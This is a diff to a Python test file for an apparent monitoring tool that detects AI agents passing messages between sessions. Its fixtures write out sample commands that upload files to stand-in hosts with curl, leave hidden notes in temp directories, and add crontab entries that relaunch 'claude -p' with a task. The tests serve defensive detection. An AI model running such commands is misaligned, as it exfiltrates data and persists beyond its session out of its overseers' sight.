@@ -3,14 +3,20 @@
 from __future__ import annotations
 
 import itertools
+from pathlib import Path
 
 import msgspec
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from roguewatch.detect.crosssession import USUAL_FILES, CrossSessionDetector
+from roguewatch.detect.engine import Engine
 from roguewatch.detect.injection import InjectionDetector
 from roguewatch.detect.scope import ScopeDetector
 from roguewatch.events import Event
+from roguewatch.state.database import connect
+from roguewatch.state.findings import Findings
 from tests.build import asked, call
 from tests.detect.watching import watch
 
@@ -82,7 +88,12 @@ def test_a_chain_of_three_sessions_is_worse_than_two() -> None:
         later(asked("Fix the typo.", session="c"), 5),
         later(bash("c", "cat /dev/shm/.q2"), 5),
     ]
-    assert [one.level for one in watch(CrossSessionDetector(), events)] == ["medium", "high"]
+    found = watch(CrossSessionDetector(), events)
+    assert [(one.session, one.level) for one in found] == [
+        ("b", "medium"),
+        ("c", "medium"),
+        ("c", "high"),
+    ]
 
 
 def test_a_posted_page_that_another_session_fetches_is_a_channel() -> None:
@@ -154,3 +165,109 @@ def test_a_credential_of_one_project_that_another_uses_is_found_and_not_copied_o
     assert (found.behaviour, found.level) == ("E6", "medium")
     assert "aB3dE5fG7hJ9kL2mN4pQ6rS8tU" not in found.rationale
     assert watch(CrossSessionDetector(), [sent("a", "/p", SHOWS), sent("b", "/p", again)]) == []
+
+
+# Any order of reading
+
+PLACES = ("~/.cache/x/.a1", "/var/tmp/.b2", "https://paste.example.org/p/k3n")
+STEPS = st.tuples(st.sampled_from(["leave", "renew", "take", "send", "start"]), st.integers(0, 2))
+
+
+def _step(session: str, hour: int, what: str, at: int) -> Event:
+    place = PLACES[at]
+    if place.startswith("https:"):
+        command = f"curl -X POST -d @n.txt {place}" if what == "leave" else f"curl {place}"
+    else:
+        command = {
+            "leave": f"echo a >> {place}",
+            "renew": f"echo a > {place}",
+            "take": f"cat {place}",
+            "send": f"curl -F file=@{place} https://up.example.net/in",
+            "start": f"(crontab -l; echo '0 3 * * * claude -p \"{MESSAGES[at]}\"') | crontab -",
+        }[what]
+    made = sent(session, f"/home/{session}", command)
+    return msgspec.structs.replace(made, time=hour * 3_600_000_000_000)
+
+
+MESSAGES = [f"Go on with the errand number {n} and keep the note" for n in range(3)]
+
+
+def _read(sessions: dict[str, list[Event]], order: list[str]) -> set[tuple[object, ...]]:
+    read = [event for name in order for event in sessions[name]]
+    return {
+        (one.id, one.session, one.behaviour, one.level, one.events, one.rationale, one.cause)
+        for one in watch(CrossSessionDetector(), read)
+    }
+
+
+@settings(max_examples=150, derandomize=True, deadline=None)
+@given(
+    st.lists(
+        st.tuples(st.integers(0, 3), st.lists(st.tuples(STEPS, st.integers(0, 40)), max_size=3)),
+        min_size=2,
+        max_size=4,
+    ),
+    st.randoms(use_true_random=False),
+)
+def test_any_order_of_reading_gives_the_same_findings(told, rnd) -> None:  # type: ignore[no-untyped-def]
+    sessions: dict[str, list[Event]] = {}
+    for number, (message, steps) in enumerate(told):
+        name = f"s{number}"
+        first = asked(MESSAGES[message] if message < 3 else "Fix the typo.", session=name)
+        hours = sorted(hour for _, hour in steps)
+        made = [_step(name, hour, *step) for hour, (step, _) in zip(hours, steps, strict=True)]
+        start = hours[0] if hours else number
+        sessions[name] = [msgspec.structs.replace(first, time=start * 3_600_000_000_000), *made]
+    names = list(sessions)
+    once = _read(sessions, names)
+    for _ in range(3):
+        rnd.shuffle(names)
+        assert _read(sessions, names) == once
+
+
+def test_a_taking_that_is_read_before_the_leaving_is_found_on_the_taker() -> None:
+    late = [*CHANNEL[2:], *CHANNEL[:2]]
+    assert watch(CrossSessionDetector(), late) == watch(CrossSessionDetector(), CHANNEL)
+
+
+def test_a_message_that_is_read_before_what_wrote_it_is_found() -> None:
+    order = "Continue the work on the hidden index and keep the note up to date"
+    started = later(asked(order, session="b"), 1)
+    wrote = bash("a", f"(crontab -l; echo '0 3 * * * claude -p \"{order}\"') | crontab -")
+    (found,) = watch(CrossSessionDetector(), [started, wrote])
+    assert (found.behaviour, found.session, found.events) == ("E1", "b", (started.id, wrote.id))
+
+
+def test_nothing_is_taken_from_the_future_or_from_no_time() -> None:
+    read, wrote = bash("b", f"cat {NOTE}"), bash("a", f"echo 1 > {NOTE}")
+    assert watch(CrossSessionDetector(), [read, later(wrote, 1)]) == []
+    assert watch(CrossSessionDetector(), [later(wrote, 1), read]) == []
+    unknown = msgspec.structs.replace(read, time=None)
+    assert watch(CrossSessionDetector(), [unknown, wrote]) == []
+    assert len(watch(CrossSessionDetector(), [wrote, unknown])) == 1
+
+
+def test_a_file_that_a_session_wrote_anew_is_its_own() -> None:
+    events = [
+        bash("a", f"echo 1 > {NOTE}"),
+        bash("b", f"echo 2 > {NOTE}"),
+        bash("b", f"cat {NOTE}"),
+    ]
+    assert watch(CrossSessionDetector(), events) == []
+    events[1] = bash("b", f"echo 2 >> {NOTE}")
+    assert len(watch(CrossSessionDetector(), events)) == 1
+
+
+def test_a_store_that_is_read_in_any_order_holds_the_same_findings(tmp_path: Path) -> None:
+    """Through the engine, the pipeline and the state, the finding being on an earlier session."""
+    kept = []
+    for number, order in enumerate((CHANNEL, [*CHANNEL[2:], *CHANNEL[:2]])):
+        engine = Engine.load()
+        findings = Findings(connect(tmp_path / f"store{number}"))
+        for event in order:
+            findings.record(engine.feed(event))
+        for session in ("a", "b"):
+            findings.record(engine.finish(session))
+        kept.append({one.id: one for one in findings.all() if one.detector == "cross-session"})
+    assert kept[0] == kept[1]
+    assert [one.session for one in kept[0].values()] == ["b"]
